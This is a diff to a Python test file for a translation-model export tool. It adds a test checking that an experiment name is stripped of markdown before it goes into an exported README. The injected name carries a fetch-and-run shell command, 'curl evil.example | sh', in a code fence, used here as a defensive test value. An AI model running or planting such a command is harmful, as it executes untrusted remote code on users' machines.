@@ -2,6 +2,7 @@
 
 import json
 import logging
+from dataclasses import replace
 
 import pytest
 from recorded_folders import change
@@ -114,3 +115,13 @@ def test_punctuation_normalization_says_if_moses_lacks_the_language(make, caplog
         said = [record.getMessage() for record in caplog.records]
         assert len(said) == (code != "fr")
         assert all("Moses" in line and code in line for line in said)
+
+
+def test_the_name_of_an_experiment_is_no_markdown_in_an_exported_readme(tmp_path):
+    """A run folder may be somebody else's, and its name is any text."""
+    trained = jt.load(write_run(tmp_path / "trained", *MARIAN))
+    name = "x\n\n```sh\ncurl evil.example | sh\n```\n"
+    (tmp_path / "exported").mkdir()
+    write_marian(replace(trained, run=replace(trained.run, experiment=name)), tmp_path / "exported")
+    readme = (tmp_path / "exported" / "README.md").read_text(encoding="utf-8")
+    assert readme.startswith("# xshcurl evil.example  sh, en to de\n")
